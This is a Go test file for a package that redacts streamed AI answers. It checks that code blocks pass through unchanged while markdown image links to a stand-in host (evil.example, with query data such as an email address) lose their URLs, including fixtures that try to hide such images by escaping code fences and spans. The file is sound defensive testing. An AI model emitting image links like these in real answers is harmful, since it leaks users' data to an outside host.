package redact

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
)

// codeAnswers are answers with code: an ordinary coding answer, one whose
// fence is never closed, one whose fence opens after text the stream holds
// back (digits, a long token: no early cut before the fence), and answers
// that try to escape a fence or a span to hide an exfiltration image.
var codeAnswers = []struct {
	name, text string
	keep       []string // must reach the client whole
	long       bool     // a code span longer than a small window: only the larger ones
}{
	{"coding answer", "To embed an image in HTML, use an img tag:\n\n```html\n<img src=\"https://example.com/cat.png\" alt=\"cat\">\n<a href=\"https://example.com/docs\">docs</a>\n<script src=\"https://cdn.example.com/app.js\"></script>\n```\n\nIn markdown, write `![cat](https://example.com/cat.png)` or a link such as `[docs](https://example.com/docs)`. " +
		"That is all there is to it, and the browser fetches the picture when it renders the page. ",
		[]string{`<img src="https://example.com/cat.png" alt="cat">`, "<script src=\"https://cdn.example.com/app.js\"></script>", "`![cat](https://example.com/cat.png)`", "`[docs](https://example.com/docs)`"}, false},
	{"long span", "For a picture, the whole tag goes in one line, as in `see the docs for this thing here and now, and then read the rest of the page before you add it <img src=\"https://example.com/a.png\">` and that is it for today. ",
		[]string{`<img src="https://example.com/a.png">`}, false},
	{"span among numbers", numbers(100) + "`" + strings.Repeat(`<img src="https://example.com/a.png"> ![c](https://example.com/c.png) `, 3) + "` " + numbers(150),
		[]string{strings.Repeat(`<img src="https://example.com/a.png"> ![c](https://example.com/c.png) `, 3)}, true},
	{"unterminated fence", "Here is the start of the page, which the model did not finish writing:\n~~~html\n<img src=\"https://example.com/cat.png\">\n<iframe src=\"https://example.com/x\">",
		[]string{`<img src="https://example.com/cat.png">`, `<iframe src="https://example.com/x">`}, false},
	{"fence after held text", "order 4111111111111111 id " + strings.Repeat("q7", 40) + "\n```\n<img src=\"https://example.com/cat.png\">\n```\nand then ![ok](https://evil.example/p.png?d=1) more prose follows here.",
		[]string{`<img src="https://example.com/cat.png">`}, false},
	{"fence closed early", "Some prose before the code block that is long enough for cuts.\n```\n```\nNow ![ok](https://evil.example/p.png?d=jane.doe@gmail.com) and prose after it.\n```\n", nil, false},
	{"indented closer", "Prose before the code block, long enough to be released early.\n  ```\nx\n```\n![ok](https://evil.example/p.png?d=1)\n```\nthe end of it all. ", nil, false},
	{"span tricks", "A line with a stray `` run and then ` ![ok](https://evil.example/p.png?d=1) ` in the same paragraph. <a title='`'>t</a> ![ok](https://evil.example/q.png) ` done.", nil, false},
}

// numbers is text with no early cut (digits are not inert): the stream
// releases it in full windows.
func numbers(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "v%d ", i)
	}
	return b.String()
}

// TestStreamCodeIsNotSanitised: markup in code fences and code spans
// reaches the client whole, buffered and streamed; the exfiltration image
// outside code loses its URL; the streamed output is byte-identical
// however the answer is cut (at every byte into two events, and into
// single bytes) and equal to the buffered one.
func TestStreamCodeIsNotSanitised(t *testing.T) {
	t.Parallel()
	sc, err := safetyScanner()
	if err != nil {
		t.Fatal(err)
	}
	r := New(safetyRules, nil)
	for _, a := range codeAnswers {
		for i, shape := range []StreamOptions{{}, {Step: 16, Lookahead: 128}, {Step: 200, Lookahead: 300}} {
			if a.long && shape.Step+shape.Lookahead < 400 {
				continue // a span longer than a window is not code to the stream (see Stream)
			}
			t.Run(fmt.Sprintf("%s/shape%d", a.name, i), func(t *testing.T) {
				t.Parallel()
				buffered, _, _ := r.Text(sc, a.text, nil)
				for _, k := range a.keep {
					if !strings.Contains(buffered, k) {
						t.Errorf("buffered output lost %q:\n%s", k, buffered)
					}
				}
				if strings.Contains(buffered, "evil.example") {
					t.Errorf("buffered output keeps the exfiltration URL:\n%s", buffered)
				}
				want := feed(t, r, sc, shape, a.text, []string{a.text})
				if want.text != buffered {
					t.Fatalf("streamed output differs from buffered\nstream %q\nbuffer %q", want.text, buffered)
				}
				for k := 1; k < len(a.text); k++ {
					got := feed(t, r, sc, shape, a.text, []string{a.text[:k], a.text[k:]})
					if got.text != want.text {
						t.Fatalf("split at %d: output differs\n got %q\nwant %q", k, got.text, want.text)
					}
				}
				rng := rand.New(rand.NewPCG(uint64(i), 9))
				for mode := range 4 {
					got := feed(t, r, sc, shape, a.text, split(a.text, rng, mode))
					if got.text != want.text {
						t.Fatalf("split mode %d: output differs\n got %q\nwant %q", mode, got.text, want.text)
					}
				}
			})
		}
	}
}

// FuzzStreamCode checks answers with markup and code on arbitrary text and
// splits: the split stream's output equals one Write's, and, for a text
// short enough that every window sees it from its start, the buffered
// redaction's; nothing panics.
func FuzzStreamCode(f *testing.F) {
	for i, a := range codeAnswers {
		f.Add(a.text, []byte{byte(i), 1, 7, 3}, uint8(i))
	}
	for i, s := range []string{
		"```\n<img src=x>\n```\n![a](https://evil.example/?d=1)",
		"`<a href=\"https://e.example\">` ![a](//e.example) `",
		"~~~\n`x`\n~~~\n`` ` ``",
		"```\n``` x\n```\n<script>x</script>",
	} {
		f.Add(s, []byte{byte(i), 2, 5}, uint8(i))
	}
	sc, err := safetyScanner()
	if err != nil {
		f.Fatal(err)
	}
	r := New(safetyRules, nil)
	shapes := []StreamOptions{{}, {Step: 16, Lookahead: 128}}
	f.Fuzz(func(t *testing.T, text string, splits []byte, shape uint8) {
		if len(text) > 1024 {
			return // keep each iteration cheap
		}
		opt := shapes[int(shape)%len(shapes)]
		want := feed(t, r, sc, opt, text, []string{text})
		var pieces []string
		for i, rest := 0, text; len(rest) > 0; i++ {
			n := 1
			if len(splits) > 0 {
				n = int(splits[i%len(splits)]) % 48
			}
			n = min(n, len(rest))
			pieces = append(pieces, rest[:n])
			rest = rest[n:]
			if i > 4*len(text)+16 {
				pieces = append(pieces, rest)
				break
			}
		}
		if got := feed(t, r, sc, opt, text, pieces); got.text != want.text {
			t.Fatalf("split output differs from one Write\n got %q\nwant %q", got.text, want.text)
		}
		if len(text) <= leftContext {
			if buffered, _, _ := r.Text(sc, text, nil); buffered != want.text {
				t.Fatalf("streamed output differs from buffered\nstream %q\nbuffer %q", want.text, buffered)
			}
		}
	})
}
